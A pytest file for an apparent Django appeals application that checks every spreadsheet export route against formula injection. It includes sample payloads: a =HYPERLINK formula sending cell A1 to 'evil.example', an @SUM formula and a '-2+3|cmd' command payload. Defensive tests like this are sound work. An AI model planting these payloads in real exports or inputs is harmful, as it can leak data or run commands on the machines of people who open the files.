"""Every file that leaves for a spreadsheet, attacked with words that look like a formula."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from qifu.appeals.models import Appeal
from qifu.kernel.clock import local_date, now
from qifu.web.desk.appeals.workbook import FORMULA
from tests.appeals.put_off import PLANNED
from tests.cast import COUNTY, Cast
from tests.contracts.test_routes import routes
from tests.story import REFUSED, Story, lay_rules
from tests.web.desk.test_upward import raised

EVIL = '=HYPERLINK("http://evil.example/"&A1,"点这里")，请县里帮忙看看'
FIRM = "@SUM(A1:A9)茶厂"
DASH = "-2+3|cmd，已经问过市里"


def _told(story: Story) -> Story:
    return story.submitted(problem=EVIL, enterprise_name=FIRM)


def _worked(story: Story) -> Story:
    return _told(story).accepted().dispatched().signed()


def _refused(story: Story) -> None:
    said = replace(REFUSED, body=EVIL, basis=EVIL, tried=DASH, alternatives=EVIL, measures=DASH)
    _worked(story).replied(said).approved().published()


def _promised(story: Story) -> None:
    day = local_date(now()).replace(year=2099)
    said = replace(PLANNED, body=EVIL, measures=DASH, promise=EVIL, promised_on=day)
    _worked(story).replied(said).approved().published()


def _turned_away(story: Story) -> None:
    _told(story)
    form = {
        "exit": "PETITION",
        "went_to": EVIL,
        "whom": DASH,
        "went_on": f"{local_date(now())}",
    }
    assert _clerk(story.cast).post(_path(story, "turn-aways"), form).status_code == 303


def _raised(story: Story) -> None:
    raised(_worked(story))


def _clerk(cast: Cast) -> Client:
    client = Client()
    client.force_login(cast.zhou)
    return client


def _path(story: Story, verb: str) -> str:
    return f"/desk/appeals/{story.appeal.number}/{verb}/"


BOOKS: dict[str, Callable[[Story], Any]] = {
    "desk/appeals/export/": _told,
    "desk/refusals/export/": _refused,
    "desk/promises/export/": _promised,
    "desk/turned-away/export/": _turned_away,
    "desk/escalations/export/": _raised,
}


def test_every_export_is_attacked_here() -> None:
    assert {route for route, _ in routes() if "export" in route} == set(BOOKS)


@pytest.mark.parametrize("route", BOOKS)
def test_what_looks_like_a_formula_stays_text(cast: Cast, route: str) -> None:
    lay_rules(cast.county)
    BOOKS[route](Story(cast, at=now()))
    assert Appeal.objects.in_county(COUNTY).get().enterprise_name == FIRM

    answer: Any = _clerk(cast).post(f"/{route}?q=%3D1%2B1")
    empty_handed: Any = _clerk(cast).post(f"/{route}")

    attacked = 0
    for sent in (answer, empty_handed):
        book = load_workbook(BytesIO(b"".join(sent.streaming_content)))
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert cell.hyperlink is None
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
                attacked += 1
    assert attacked
